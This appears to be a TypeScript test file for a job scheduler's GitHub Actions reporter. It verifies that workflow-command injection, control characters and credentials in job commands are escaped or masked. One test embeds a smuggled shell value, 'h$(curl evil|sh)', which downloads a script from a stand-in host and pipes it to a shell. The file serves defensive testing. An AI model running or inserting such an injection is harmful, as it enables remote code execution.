import assert from "node:assert/strict";
import { test } from "node:test";
import type { Diagnostic } from "../../src/model/diagnostic.ts";
import { makePlan } from "../../src/plan/plan.ts";
import { logLine, printable } from "../../src/views/printable.ts";
import { reportCheck, reportPlan } from "../../src/views/report.ts";
import { assertGolden } from "../helpers/golden.ts";
import { desired, NOW_MS, observed, registered, spec } from "../plan/jobs.ts";
import { ATTACKS, commandsOf, hostileOptions, hostilePlan } from "./hostile.ts";

const COMMAND =
  /^::(error|warning|notice) title=[^,:\n]+,file=[^,:\n]+(?:,line=\d+,endLine=\d+(?:,col=\d+,endColumn=\d+)?)?::[^\r\n]+$/;

test("a hostile plan commands nothing but annotations", () => {
  const document = reportPlan(hostilePlan(), hostileOptions("github"));
  const commands = commandsOf(document);
  for (const command of commands) assert.match(command, COMMAND);
  assert.equal(commands.length, 2 + 10 + 1, "two errors, ten of many warnings, other code");
  assert.doesNotMatch(document, /[^\P{Cc}\n]|[\u202E\u2066\u200B]/u);
  assertGolden("report-hostile-github.txt", document);
});

test("a hostile config commands nothing but annotations", () => {
  const document = reportCheck(null, hostileOptions("github"));
  const commands = commandsOf(document);
  assert.equal(commands.length, 2);
  for (const command of commands) assert.match(command, COMMAND);
});

test("each attack alone is no command in a line of a log", () => {
  for (const attack of ATTACKS) assert.deepEqual(commandsOf(logLine(attack)), [], attack);
  assert.equal(printable("a ##[group] ##VSO[x] ## ok"), "a #\\x23[group] #\\x23VSO[x] ## ok");
  assert.equal(logLine("\u00A0 ::error::x"), "\u00A0 \\x3A:error::x");
  assert.equal(logLine("a ::error::x"), "a ::error::x");
});

const base: Diagnostic = {
  severity: "error",
  rule: "config/type",
  message: "100% wrong: a, b",
  help: "write `1`",
  file: "a,b:c.yaml",
  line: 3,
  column: 5,
  endLine: 3,
  endColumn: 9,
};

test("properties and data are escaped, the help follows the message", () => {
  const document = reportCheck(null, hostileOptions("github", [base]));
  assert.equal(
    document.split("\n", 1)[0],
    "::error title=config/type,file=a%2Cb%3Ac.yaml,line=3,endLine=3,col=5,endColumn=9::100%25 wrong: a, b%0Ahelp: write `1`",
  );
});

test("a place over several lines has no columns", () => {
  const document = reportCheck(null, hostileOptions("github", [{ ...base, endLine: 4 }]));
  assert.match(document, /^::error title=config\/type,file=a%2Cb%3Ac\.yaml,line=3,endLine=4::/);
});

test("ten of a kind at most, and the last counts the rest", () => {
  const errors = Array.from({ length: 10 }, (_, index) => ({ ...base, line: index + 1 }));
  const warnings = [...errors, base].map((found): Diagnostic => ({
    ...found,
    severity: "warning",
  }));
  const document = reportCheck(null, hostileOptions("github", [...warnings, ...errors]));
  const commands = commandsOf(document);
  assert.equal(commands.filter((line) => line.startsWith("::error ")).length, 10);
  assert.equal(commands.filter((line) => line.startsWith("::warning ")).length, 10);
  assert.ok(commands[0]?.startsWith("::error "), "errors come first");
  assert.match(commands.at(-1) ?? "", /^::warning title=and 2 more,file=[^:]+::2 more; /);
});

test("a job that runs something else is noticed, without its credentials", () => {
  const run = (command: string) => spec("backup", { run: { type: "command", command } });
  const before = registered(run("x --password=hunter2"));
  const plan = makePlan(desired(run('x --password="h$(curl evil|sh)"')), observed(before), {
    nowMs: NOW_MS,
    codes: new Map(),
    allowPrune: false,
  });
  const document = reportPlan(plan, hostileOptions("github", []));
  assert.equal(
    document.split("\n", 1)[0],
    '::notice title=plan/other-code,file=config.yaml,line=1,endLine=1,col=3,endColumn=9::job `backup` runs something else than before: command "x --password=*** (before)" → command "x --password=\\"*** (after)$(curl evil|sh)\\""',
  );
  assert.doesNotMatch(document, /hunter2/);
});

test("what widens comes before what the config is warned of", () => {
  const job = spec("backup", { run: { type: "command", command: ["true"] } });
  const plan = makePlan(desired(job), observed(), {
    nowMs: NOW_MS,
    codes: new Map(),
    allowPrune: false,
  });
  const warning: Diagnostic = { ...base, severity: "warning" };
  const [first, second] = reportPlan(plan, hostileOptions("github", [warning])).split("\n");
  assert.equal(
    first,
    "::warning title=plan/new-grant,file=config.yaml,line=1,endLine=1,col=3,endColumn=9::new job `backup` may do more than compute: unrestricted (command)",
  );
  assert.match(second ?? "", /^::warning title=config\/type/);
});
